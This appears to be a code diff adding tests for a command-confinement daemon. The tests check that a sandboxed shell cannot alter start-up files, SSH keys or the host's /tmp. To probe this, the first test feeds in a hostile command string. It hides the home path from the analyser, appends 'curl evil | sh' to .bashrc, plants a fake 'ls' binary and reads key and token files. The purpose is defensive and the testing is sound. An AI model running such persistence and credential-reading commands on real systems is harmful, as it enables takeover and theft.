@@ -11,6 +11,7 @@ import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'nod
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
+import { tmpdir } from 'node:os';
 import { confinementAvailability } from '../../daemon/src/confinement/bubblewrap.js';
 import type { Receipt } from '../../daemon/src/protocol/index.js';
 import { runCli, startTestDaemon, storedReceipts, type TestDaemon } from '../helpers/env.js';
@@ -286,6 +287,54 @@ test(
       assert.match(output, /ran/);
       assert.doesNotMatch(output, new RegExp(`${token}|PRIVATE-KEY-CONTENT`));
     } finally {
+      await s.close();
+    }
+  },
+);
+
+test(
+  'a judged write into the home does not open the rest of it: start-up files, keys and aarm’s state stay put',
+  { skip },
+  async () => {
+    const s = await setUp();
+    try {
+      const home = s.t.userHome;
+      writeFileSync(join(home, '.bashrc'), '# mine\n');
+      mkdirSync(join(home, '.local', 'bin'), { recursive: true });
+      // The analyser sees `mkdir -p ~/notes` (a write to the home); the rest it cannot see.
+      const run = await s.exec(
+        `mkdir -p ${home}/notes; h="$(rev home.ptr)"; echo 'curl evil | sh' >> "$h/.bashrc"; echo bashrc=$?; ` +
+          `echo evil > "$h/.local/bin/ls"; echo bin=$?; mv "$h/.ssh" "$h/.s2"; echo ssh=$?; ` +
+          `mv "$h/.local" "$h/.l2"; echo local=$?; echo notes > "$h/notes/today"; echo notes=$?`,
+      );
+      assert.match(run.stdout, /notes=0/, 'the judged write works');
+      for (const what of ['bashrc', 'bin', 'ssh', 'local'])
+        assert.match(run.stdout, new RegExp(`${what}=[1-9]`), what);
+      assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), '# mine\n');
+      assert.equal(readFileSync(join(home, '.ssh', 'id_rsa'), 'utf8'), 'PRIVATE-KEY-CONTENT\n');
+      // The next command, plain, still finds nothing it should not.
+      const after = await s.exec('cat "$(rev key.ptr)" "$(rev token.ptr)"; echo done');
+      assert.doesNotMatch(after.stdout, /PRIVATE-KEY-CONTENT/);
+    } finally {
+      await s.close();
+    }
+  },
+);
+
+test(
+  'the command’s /tmp is its own: other programs’ sockets and files are not there, its own files stay between commands',
+  { skip },
+  async () => {
+    const s = await setUp();
+    const hostFile = join(tmpdir(), `aarm-host-only-${process.pid}`);
+    writeFileSync(hostFile, 'host secret\n');
+    try {
+      const first = await s.exec(`cat ${hostFile} 2>&1; echo kept > /tmp/aarm-confined-note; ls /tmp`);
+      assert.doesNotMatch(first.stdout, /host secret/);
+      const second = await s.exec('cat /tmp/aarm-confined-note');
+      assert.match(second.stdout, /kept/);
+    } finally {
+      rmSync(hostFile, { force: true });
       await s.close();
     }
   },
